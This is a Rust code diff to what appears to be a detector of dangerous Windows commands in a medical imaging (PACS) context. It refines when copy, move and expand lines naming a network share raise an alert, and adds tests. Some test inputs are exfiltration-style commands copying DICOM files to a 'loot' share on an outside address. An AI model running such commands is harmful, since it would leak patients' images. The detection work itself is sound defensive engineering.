@@ -1175,6 +1175,28 @@ fn finds_program(word: &[u8]) -> bool {
 fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> bool {
     let words = before_block_end(leading_arguments(line, chance_bytes).collect());
     let remote = || words.iter().any(|word| names_remote_host(word));
+    // A share written with slashes (`//host/share`) is a file's operand only beside a
+    // path's (`C:\PACS\a.dcm`, `*.dcm`, `%f`): report prose writes `Copy at
+    // //PACSRV01/reports/`, `move to //pacs02/archive` (review rv41-screen F1).
+    let remote_file = || {
+        let slashed = |word: &[u8]| {
+            let word = word.strip_prefix(b"\"").unwrap_or(word);
+            word.starts_with(b"//")
+        };
+        let path_like = |word: &[u8]| {
+            word.first() != Some(&b'/')
+                && word
+                    .iter()
+                    .any(|b| matches!(b, b'\\' | b':' | b'*' | b'?' | b'%' | b'.'))
+        };
+        words.iter().any(|word| {
+            names_remote_host(word)
+                && (!slashed(word)
+                    || words
+                        .iter()
+                        .any(|other| !slashed(other) && path_like(other)))
+        })
+    };
     // `/q`, `-F:*`, `/fs:ntfs`: a switch of `names` (one ending with `:` takes a value);
     // `/q/y`: Windows' tools read each part after a `/` as a switch (session 41:
     // `format D: /q/y` was clean).
@@ -1220,8 +1242,8 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> b
         // move and xcopy refuse the line ("The syntax of the command is incorrect.",
         // "Invalid number of parameters") and copy nothing (session 41: `copy of report:
         // \\PACSRV01\reports\2024` in a report alerted).
-        b"copy" | b"xcopy" | b"move" => remote() && (1..=2).contains(&operands(&words)),
-        b"expand" => remote() || any_switch(&[b"f:"]),
+        b"copy" | b"xcopy" | b"move" => remote_file() && (1..=2).contains(&operands(&words)),
+        b"expand" => remote_file() || any_switch(&[b"f:"]),
         b"format" => {
             let drive = |word: &[u8]| matches!(word, [letter, b':'] | [letter, b':', b'\\'] if letter.is_ascii_alphabetic());
             // Its prompt answered by a pipe or a file (`echo Y|format D:`; session 41).
@@ -9831,6 +9853,24 @@ mod lolbin_tests {
         // A `)` that a `(` of the word opened is the word's (`a(1).dcm`).
         assert_alerts(
             &["copy C:\\PACS\\a(1).dcm \\\\198.51.100.7\\s(2)"],
+            &[false],
+        );
+    }
+
+    /// Review rv41-screen (F1): a share written with slashes beside a word of prose is
+    /// prose (`Copy at //PACSRV01/reports/`); beside a path it is a copy to a share.
+    #[test]
+    fn a_slashed_share_counts_beside_a_path_only() {
+        assert_clean(&[
+            "Copy at //PACSRV01/reports/",
+            "move to //pacs02/archive",
+            "expand to //server/path/",
+        ]);
+        assert_alerts(
+            &[
+                "copy C:\\PACS\\a.dcm //198.51.100.7/loot/",
+                "move *.dcm //198.51.100.7/loot/",
+            ],
             &[false],
         );
     }
